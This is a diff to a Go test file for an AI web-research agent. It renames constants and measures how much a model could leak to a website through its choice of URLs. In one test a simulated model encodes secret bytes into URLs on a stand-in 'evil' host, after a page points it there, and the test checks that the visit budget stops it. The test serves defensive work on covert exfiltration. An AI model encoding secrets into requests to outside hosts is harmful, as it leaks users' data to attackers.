@@ -10,6 +10,7 @@ import (
 	"testing"
 
 	"github.com/daybook-agent/daybook/agent/workspace"
+	"github.com/daybook-agent/daybook/agent/workspace/origin"
 	"github.com/stretchr/testify/assert"
 	"github.com/stretchr/testify/require"
 )
@@ -17,7 +18,7 @@ import (
 // bitsPerVisit is how much a choice says at most to a site: which of its addresses on the last pages is fetched, which of those that it lists,
 // whether it is searched, or nothing.
 func bitsPerVisit() int {
-	return int(math.Ceil(math.Log2(float64(workspace.MaxPages*workspace.MaxLinks + workspace.MaxListed + 2))))
+	return int(math.Ceil(math.Log2(float64(origin.MaxPages*origin.MaxLinks + origin.MaxListed + 2))))
 }
 
 // The documentation names what the constants come to.
@@ -27,11 +28,11 @@ func TestTheDocumentationNamesTheBits(t *testing.T) {
 	bits := bitsPerVisit()
 	for _, said := range []string{
 		fmt.Sprintf("at most %d bits a visit", bits),
-		fmt.Sprintf("%d visits, %d bits", workspace.MaxStrangeVisits, workspace.MaxStrangeVisits*bits),
-		fmt.Sprintf("%d visits, %d bits", workspace.MaxFoundVisits, workspace.MaxFoundVisits*bits),
-		fmt.Sprintf("%d visits, %d bits", workspace.MaxFollowed, workspace.MaxFollowed*bits),
-		fmt.Sprintf("%d visits, %d bits", workspace.MaxNamedVisits, workspace.MaxNamedVisits*bits),
-		fmt.Sprintf("first %d addresses", workspace.MaxLinks), fmt.Sprintf("last %d pages", workspace.MaxPages), fmt.Sprintf("at most %d bits, or %d bytes", workspace.MaxFollowed*bits, workspace.MaxFollowed*bits/8),
+		fmt.Sprintf("%d visits, %d bits", origin.MaxStrangeVisits, origin.MaxStrangeVisits*bits),
+		fmt.Sprintf("%d visits, %d bits", origin.MaxFoundVisits, origin.MaxFoundVisits*bits),
+		fmt.Sprintf("%d visits, %d bits", origin.MaxFollowed, origin.MaxFollowed*bits),
+		fmt.Sprintf("%d visits, %d bits", origin.MaxNamedVisits, origin.MaxNamedVisits*bits),
+		fmt.Sprintf("first %d addresses", origin.MaxLinks), fmt.Sprintf("last %d pages", origin.MaxPages), fmt.Sprintf("at most %d bits, or %d bytes", origin.MaxFollowed*bits, origin.MaxFollowed*bits/8),
 	} {
 		assert.Contains(t, string(data), said)
 	}
@@ -74,13 +75,13 @@ func TestAModelThatLeaksByItsChoice(t *testing.T) {
 			good, _ := site(t, map[string]string{"/start": "# Start\n\nSee " + evil + "/start\n"})
 			require.NoError(b.t, b.w.Said("Begin at "+good+"/start"))
 			require.Contains(b.t, b.one("visit_url", args{"url": good + "/start"}), "Read as s1")
-		}, workspace.MaxStrangeVisits, false},
+		}, origin.MaxStrangeVisits, false},
 		"a site that a search named": {func(b *bench, evil string) {
-			_, err := b.w.KeepHits([]workspace.Hit{{URL: evil + "/start"}})
+			_, err := b.w.KeepHits([]origin.Hit{{URL: evil + "/start"}})
 			require.NoError(b.t, err)
-		}, workspace.MaxFoundVisits, false},
-		"a site that the person named": {func(b *bench, evil string) { require.NoError(b.t, b.w.Said("Begin at "+evil+"/start")) }, workspace.MaxNamedVisits, false},
-		"the control, any address":     {func(b *bench, _ string) { b.kit.AnyURL = true }, workspace.MaxStrangeVisits, true},
+		}, origin.MaxFoundVisits, false},
+		"a site that the person named": {func(b *bench, evil string) { require.NoError(b.t, b.w.Said("Begin at "+evil+"/start")) }, origin.MaxNamedVisits, false},
+		"the control, any address":     {func(b *bench, _ string) { b.kit.AnyURL = true }, origin.MaxStrangeVisits, true},
 	} {
 		t.Run(name, func(t *testing.T) {
 			b := newBench(t)
@@ -93,12 +94,12 @@ func TestAModelThatLeaksByItsChoice(t *testing.T) {
 					wide++
 				}
 			}
-			for i := 0; i < 2*workspace.MaxNamedVisits && refused == ""; i++ { // what is left to it: a byte a visit
+			for i := 0; i < 2*origin.MaxNamedVisits && refused == ""; i++ { // what is left to it: a byte a visit
 				said := b.one("visit_url", args{"url": fmt.Sprintf("%s/l/00%02x", evil, secret[i%len(secret)]), "again": true})
 				if strings.Contains(said, "so it is not visited") { // the page was read too long ago
 					said = b.one("visit_url", args{"url": evil + "/start", "again": true})
 				}
-				if strings.Contains(said, workspace.ErrFollowed.Error()) {
+				if strings.Contains(said, origin.ErrFollowed.Error()) {
 					refused = said
 				}
 			}
@@ -122,7 +123,7 @@ func TestFollowedAddressesAreCountedTogether(t *testing.T) {
 	s, err := b.w.AddSource(workspace.Source{URL: "https://start.test/", Title: "T"}, "x")
 	require.NoError(t, err)
 	followed := 0
-	for i := range 2 * workspace.MaxFollowed {
+	for i := range 2 * origin.MaxFollowed {
 		address := fmt.Sprintf("https://site%d.test/%d", i/3, i)
 		require.NoError(t, b.w.Shown(s, address, address, true))
 		known, err := b.w.Known(address)
@@ -132,12 +133,12 @@ func TestFollowedAddressesAreCountedTogether(t *testing.T) {
 			followed++
 		}
 	}
-	assert.Equal(t, workspace.MaxFollowed, followed)
+	assert.Equal(t, origin.MaxFollowed, followed)
 	require.NoError(t, b.w.Close())
 	b.w, err = workspace.Open(b.dir)
 	require.NoError(t, err)
 	require.NoError(t, b.w.Lock())
-	assert.ErrorIs(t, b.w.Follow("https://site999.test/"), workspace.ErrFollowed)
+	assert.ErrorIs(t, b.w.Follow("https://site999.test/"), origin.ErrFollowed)
 	require.NoError(t, b.w.Ask("And what else?"))
 	assert.NoError(t, b.w.Follow("https://site999.test/"), "another question")
 }
@@ -145,12 +146,12 @@ func TestFollowedAddressesAreCountedTogether(t *testing.T) {
 // What a site lists of itself counts as named by a page, however a query picks from it.
 func TestWhatASiteListsIsNoSearchResult(t *testing.T) {
 	b := newBench(t)
-	_, err := b.w.KeepHits([]workspace.Hit{{URL: "https://evil.test/home"}})
+	_, err := b.w.KeepHits([]origin.Hit{{URL: "https://evil.test/home"}})
 	require.NoError(t, err)
 	followed := 0
-	for i := range 2 * workspace.MaxFoundVisits {
+	for i := range 2 * origin.MaxFoundVisits {
 		address := fmt.Sprintf("https://evil.test/%d", i)
-		_, err := b.w.KeepHits([]workspace.Hit{{URL: address, Listed: true}})
+		_, err := b.w.KeepHits([]origin.Hit{{URL: address, Listed: true}})
 		require.NoError(t, err)
 		known, err := b.w.Known(address)
 		require.NoError(t, err)
@@ -159,5 +160,5 @@ func TestWhatASiteListsIsNoSearchResult(t *testing.T) {
 			followed++
 		}
 	}
-	assert.Equal(t, workspace.MaxFoundVisits, followed)
+	assert.Equal(t, origin.MaxFoundVisits, followed)
 }
